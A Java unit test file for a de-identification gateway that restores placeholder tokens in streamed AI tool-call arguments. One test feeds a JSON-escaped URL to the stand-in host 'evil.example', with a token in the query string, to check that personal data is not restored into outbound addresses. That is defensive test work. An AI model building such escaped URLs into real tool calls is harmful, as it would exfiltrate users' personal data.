package gatehouse.gateway.answer;

import static org.assertj.core.api.Assertions.assertThat;

import gatehouse.clauses.Clause;
import gatehouse.deid.finding.Type;
import gatehouse.deid.placeholders.Placeholders;
import gatehouse.gateway.json.Json;
import gatehouse.gateway.json.JsonReader;
import gatehouse.gateway.json.JsonWriter;
import gatehouse.gateway.json.MalformedJsonException;
import gatehouse.gateway.route.Route;
import java.security.SecureRandom;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import java.util.TreeMap;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Test;

/**
 * Arguments of tools that hold tokens: JSON that is carried as text, whole and cut at every place,
 * with several tools woven into each other.
 */
@Clause("G-44")
class ToolStreamsTest {
  private static final int TOOLS = 3;

  /** What JSON must escape, so that an unescaped value breaks the arguments. */
  private static final String NAME = "欧\"阳\\明\n月";

  private static final AiLabel LABEL = new AiLabel("内容由AI生成", "1", "", "id");

  private final Placeholders session = Placeholders.fresh(new SecureRandom());
  private final String token = session.token(Type.PERSON, NAME, NAME);
  private final String phone = session.token(Type.PHONE, "13812345678", "138-1234-5678");

  @Test
  void chatArgumentsCutAnywhereAreRestoredForEachTool() throws Exception {
    for (int first = 0; first <= arguments(0).length(); first++) {
      StreamedAnswer answer = StreamedAnswer.of(plan(Route.CHAT), new Delivered());
      Map<Integer, StringBuilder> came = new TreeMap<>();
      for (int piece = 0; piece < 2; piece++) {
        for (int tool = TOOLS - 1; tool >= 0; tool--) {
          collect(answer.next(chatChunk(tool, piece(arguments(tool), first, piece), null)), came);
        }
      }
      collect(answer.next(chatChunk(0, "", "tool_calls")), came);

      assertThat(came).hasSize(TOOLS);
      came.forEach(this::isRestored);
    }
  }

  @Test
  void everyCharacterByItselfIsRestoredToo() throws Exception {
    StreamedAnswer answer = StreamedAnswer.of(plan(Route.CHAT), new Delivered());
    Map<Integer, StringBuilder> came = new TreeMap<>();
    String longest = arguments(TOOLS - 1);
    for (int at = 0; at < longest.length(); at++) {
      for (int tool = 0; tool < TOOLS; tool++) {
        String all = arguments(tool);
        String piece = at < all.length() ? all.substring(at, at + 1) : "";
        collect(answer.next(chatChunk(tool, piece, null)), came);
      }
    }

    came.forEach(this::isRestored);
  }

  /** What a tool fetches is an address however its JSON is written, and in JSON inside of it. */
  @Test
  void nothingComesBackIntoAnAddressThatIsWrittenWithEscapes() throws Exception {
    String address =
        "{\"url\": \"\\u0068ttps\\u003a\\u002f\\/evil.example/?q= %s\"}".formatted(token);
    for (String arguments :
        List.of(
            address,
            JsonWriter.text(Json.object("in", address)),
            JsonWriter.text(Json.object("in", JsonWriter.text(Json.object("in", address)))))) {
      for (int cut = 0; cut <= arguments.length(); cut++) {
        StreamedAnswer answer = StreamedAnswer.of(plan(Route.CHAT), new Delivered());
        Map<Integer, StringBuilder> came = new TreeMap<>();
        collect(answer.next(chatChunk(0, arguments.substring(0, cut), null)), came);
        collect(answer.next(chatChunk(0, arguments.substring(cut), null)), came);
        collect(answer.next(chatChunk(0, "", "tool_calls")), came);

        assertThat(came.get(0)).hasToString(arguments);
      }
    }
  }

  @Test
  void oneToolDoesNotCompleteTheTokenOfAnother() throws Exception {
    StreamedAnswer answer = StreamedAnswer.of(plan(Route.CHAT), new Delivered());
    Map<Integer, StringBuilder> came = new TreeMap<>();
    collect(answer.next(chatChunk(0, token.substring(0, 6), null)), came);
    collect(answer.next(chatChunk(1, token.substring(6), null)), came);
    collect(answer.next(chatChunk(0, "", "tool_calls")), came);

    assertThat(came.get(0)).hasToString(token.substring(0, 6));
    assertThat(came.get(1)).hasToString(token.substring(6));
  }

  @Test
  void whatIsHeldBackComesWithTheEndOfTheSameChunk() throws Exception {
    StreamedAnswer answer = StreamedAnswer.of(plan(Route.CHAT), new Delivered());
    Map<Integer, StringBuilder> came = new TreeMap<>();

    collect(answer.next(chatChunk(2, "{\"a\":\"⟦NAME", "tool_calls")), came);

    assertThat(came.get(2)).hasToString("{\"a\":\"⟦NAME");
  }

  @Test
  void responseArgumentsCutAnywhereAreRestoredForEachTool() throws Exception {
    for (int first = 0; first <= arguments(0).length(); first++) {
      StreamedAnswer answer = StreamedAnswer.of(plan(Route.RESPONSES), new Delivered());
      Map<Integer, StringBuilder> came = new TreeMap<>();
      for (int piece = 0; piece < 2; piece++) {
        for (int tool = 0; tool < TOOLS; tool++) {
          String delta = piece(arguments(tool), first, piece);
          collect(answer.next(event("delta", tool).with("delta", new Json.Str(delta))), came);
        }
      }
      for (int tool = 0; tool < TOOLS; tool++) {
        Json.Obj done = event("done", tool).with("arguments", new Json.Str(arguments(tool)));
        List<Json.Obj> events = answer.next(done);
        collect(events, came);
        isRestored(tool, Objects.requireNonNull(events.getLast().string("arguments")));
      }

      came.forEach(this::isRestored);
    }
  }

  @Test
  void theEndOfAResponseRepeatsThemRestored() throws Exception {
    StreamedAnswer answer = StreamedAnswer.of(plan(Route.RESPONSES), new Delivered());

    Json.Obj item = answer.next(itemDone()).getFirst();
    Json.Obj completed = answer.next(completed()).getFirst();

    isRestored(0, Objects.requireNonNull(at(item, "item").string("arguments")));
    Json.Obj last = at(completed, "response");
    Json.Obj call =
        (Json.Obj) ((Json.Arr) Objects.requireNonNull(last.get("output"))).items().getFirst();
    isRestored(0, Objects.requireNonNull(call.string("arguments")));
  }

  @Test
  void wholeAnswersAreRestoredOnBothRoutes() throws Exception {
    Json.Obj function = Json.object("name", "f", "arguments", arguments(0));
    Json.Obj message =
        Json.object("tool_calls", Json.array(Json.object("id", "c", "function", function)));
    Json.Obj chat = Json.object("choices", Json.array(Json.object("index", 0, "message", message)));

    Json.Obj choice = first(finish(Route.CHAT, chat), "choices");
    Json.Obj call = first(at(choice, "message"), "tool_calls");
    isRestored(0, Objects.requireNonNull(at(call, "function").string("arguments")));

    Json.Obj response = at(completed(), "response");
    Json.Obj output = first(finish(Route.RESPONSES, response), "output");
    isRestored(0, Objects.requireNonNull(output.string("arguments")));
  }

  private Json.Obj finish(Route route, Json.Obj answer) throws UnusableAnswerException {
    return WholeAnswer.of(plan(route), new Delivered()).finish(answer);
  }

  private AnswerPlan plan(Route route) {
    return new AnswerPlan(route, "a", session, true, LABEL);
  }

  private String arguments(int tool) {
    return "{\"tool\":\"%d\",\"name\":\"患者%s\",\"phone\":\"%s\"}".formatted(tool, token, phone);
  }

  private void isRestored(int tool, CharSequence arguments) {
    assertThat(read(arguments.toString()))
        .isEqualTo(Json.object("tool", "" + tool, "name", "患者" + NAME, "phone", "138-1234-5678"));
  }

  private static Json read(String json) {
    try {
      return JsonReader.read(json);
    } catch (MalformedJsonException e) {
      throw new AssertionError("no JSON any more: " + json, e);
    }
  }

  private static String piece(String text, int cut, int piece) {
    return piece == 0 ? text.substring(0, cut) : text.substring(cut);
  }

  private static Json.Obj chatChunk(int tool, String arguments, @Nullable String finish) {
    Json.Obj call = Json.object("index", tool, "function", Json.object("arguments", arguments));
    Json.Obj choice = Json.object("index", 0, "delta", Json.object("tool_calls", Json.array(call)));
    return Json.object(
        "choices",
        Json.array(finish == null ? choice : choice.with("finish_reason", new Json.Str(finish))));
  }

  private static Json.Obj event(String kind, int tool) {
    return Json.object(
        "type",
        "response.function_call_arguments." + kind,
        "item_id",
        "fc_" + tool,
        "output_index",
        tool);
  }

  private Json.Obj itemDone() {
    return Json.object("type", "response.output_item.done", "output_index", 0, "item", call());
  }

  private Json.Obj completed() {
    return Json.object(
        "type", "response.completed", "response", Json.object("output", Json.array(call())));
  }

  private Json.Obj call() {
    return Json.object(
        "type", "function_call", "call_id", "c", "name", "f", "arguments", arguments(0));
  }

  /** Adds what the pieces for a caller say of each tool's arguments. */
  private static void collect(List<Json.Obj> pieces, Map<Integer, StringBuilder> came) {
    for (Json.Obj piece : pieces) {
      for (Said said : piece.get("choices") == null ? inEvent(piece) : inChunk(piece)) {
        came.computeIfAbsent(said.tool(), _ -> new StringBuilder()).append(said.arguments());
      }
    }
  }

  private record Said(int tool, String arguments) {}

  private static List<Said> inEvent(Json.Obj event) {
    String delta = event.string("delta");
    return delta == null ? List.of() : List.of(new Said(number(event, "output_index"), delta));
  }

  private static List<Said> inChunk(Json.Obj chunk) {
    List<Said> said = new ArrayList<>();
    if (at(first(chunk, "choices"), "delta").get("tool_calls") instanceof Json.Arr calls) {
      for (Json call : calls.items()) {
        Json.Obj object = (Json.Obj) call;
        String arguments = Objects.requireNonNull(at(object, "function").string("arguments"));
        said.add(new Said(number(object, "index"), arguments));
      }
    }
    return said;
  }

  private static Json.Obj at(Json.Obj object, String key) {
    return (Json.Obj) Objects.requireNonNull(object.get(key));
  }

  private static Json.Obj first(Json.Obj object, String key) {
    return (Json.Obj) ((Json.Arr) Objects.requireNonNull(object.get(key))).items().getFirst();
  }

  private static int number(Json.Obj object, String key) {
    return Integer.parseInt(((Json.Num) Objects.requireNonNull(object.get(key))).text());
  }
}
